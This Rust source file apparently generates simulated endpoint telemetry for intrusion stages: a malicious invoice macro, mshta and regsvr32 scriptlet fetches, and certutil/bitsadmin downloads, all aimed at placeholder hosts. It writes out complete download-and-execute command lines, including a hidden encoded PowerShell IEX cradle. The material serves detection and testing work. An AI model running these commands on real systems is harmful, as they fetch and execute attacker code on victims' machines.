//! How intruders come in and bring their tools.

use super::Stage;
use crate::generate::command::base64_of_utf16;
use crate::generate::event::Integrity;
use crate::generate::image::Image;
use std::sync::Arc;

/// A document with a macro, PowerShell, a program.
pub fn office_macro(stage: &mut Stage<'_, '_>) {
    let device = stage.device();
    let user = device.user.name.clone();
    let ip = format!("203.0.113.{}", stage.random.between(20, 60));
    let host = format!("files-{}.example", stage.random.letters(5));
    let name = format!("Invoice_{}.docm", stage.random.between(1000, 9999));
    let path = format!(
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}\\{name}",
        stage.random.letters(8).to_uppercase()
    );
    let mail = stage.host.running("OUTLOOK.EXE");
    stage.create(&mail, &path, None);
    stage.wait(2_000, 9_000);
    let word = stage.start(&mail, "WINWORD.EXE", format!("\"WINWORD.EXE\" /n \"{path}\" /o \"\""));
    stage.wait(9_000, 40_000);
    let script =
        format!("IEX (New-Object Net.WebClient).DownloadString('http://{host}/a/{}')", stage.random.letters(6));
    let command = format!("powershell.exe -nop -w hidden -enc {}", base64_of_utf16(&script));
    let shell = stage.start(&word, "powershell.exe", command);
    stage.wait(30, 90);
    stage.start(&shell, "conhost.exe", "conhost.exe 0xffffffff -ForceV1");
    stage.wait(900, 3_000);
    let fields = serde_json::json!({ "Command": "Invoke-Expression" });
    stage.device_event("PowerShellCommand", &shell, None, crate::generate::event::Facts::None, fields);
    stage.connect(&shell, &ip, 80, &host);
    stage.wait(700, 2_500);
    let payload = format!("C:\\Users\\{user}\\AppData\\Local\\Temp\\{}.exe", stage.random.letters(8));
    stage.create(&shell, &payload, Some(&format!("http://{host}/b.bin")));
    stage.wait(400, 2_000);
    let image = Arc::new(Image::unsigned(&payload));
    let started = stage.start_image(&shell, image, format!("\"{payload}\""), Integrity::Medium);
    stage.wait(2_000, 6_000);
    stage.connect(&started, &ip, 443, &host);
    stage.key("AccountName", &*user);
    stage.key("RemoteUrl", host);
    stage.key("Script", script);
}

/// A script from the web, run by mshta.
pub fn mshta(stage: &mut Stage<'_, '_>) {
    let device = stage.device();
    let ip = format!("203.0.113.{}", stage.random.between(61, 99));
    let host = format!("update-{}.test", stage.random.letters(4));
    let url = format!("https://{host}/{}.hta", stage.random.letters(7));
    let desktop = stage.host.running("explorer.exe");
    let mshta = stage.start(&desktop, "mshta.exe", format!("\"mshta.exe\" {url}"));
    stage.wait(300, 1_500);
    stage.connect(&mshta, &ip, 443, &host);
    stage.wait(100, 700);
    let folder = format!("C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE", device.user.name);
    let copy = format!("{folder}\\{}.hta", stage.random.letters(8));
    stage.create(&mshta, &copy, Some(&url));
    stage.wait(500, 2_500);
    let shell = stage.start(&mshta, "cmd.exe", "\"cmd.exe\" /c whoami /all & ipconfig /all");
    stage.start(&shell, "whoami.exe", "whoami  /all");
    stage.wait(800, 4_000);
    let scriptlet = format!("regsvr32.exe /s /n /u /i:https://{host}/{}.sct scrobj.dll", stage.random.letters(5));
    let register = stage.start(&mshta, "regsvr32.exe", scriptlet);
    stage.wait(300, 1_200);
    stage.connect(&register, &ip, 443, &host);
    stage.key("AccountName", &*device.user.name);
    stage.key("Host", host);
}

/// Tools fetched with what Windows has.
pub fn lolbins(stage: &mut Stage<'_, '_>) {
    let ip = format!("203.0.113.{}", stage.random.between(100, 150));
    let desktop = stage.host.running("explorer.exe");
    let shell = stage.start(&desktop, "cmd.exe", "\"cmd.exe\" ");
    stage.wait(4_000, 20_000);
    let tool = format!("C:\\Users\\Public\\{}.exe", stage.random.letters(6));
    let command = format!("certutil.exe  -urlcache -split -f http://{ip}/t/{}.txt {tool}", stage.random.letters(3));
    let certutil = stage.start(&shell, "certutil.exe", command);
    stage.wait(200, 900);
    stage.connect(&certutil, &ip, 80, "");
    stage.wait(200, 900);
    stage.create(&certutil, &tool, None);
    stage.wait(10_000, 60_000);
    let library = format!("C:\\ProgramData\\{}.dll", stage.random.letters(6));
    let command = format!(
        "bitsadmin  /transfer {} /download /priority high http://{ip}/t/{}.dat {library}",
        stage.random.letters(5),
        stage.random.letters(3)
    );
    let admin = stage.start(&shell, "bitsadmin.exe", command);
    stage.wait(1_000, 4_000);
    stage.connect(&admin, &ip, 80, "");
    stage.wait(200, 900);
    stage.create(&admin, &library, None);
    stage.wait(2_000, 9_000);
    stage.start(&shell, "rundll32.exe", format!("rundll32.exe {library},Start"));
    stage.key("RemoteIP", ip);
}
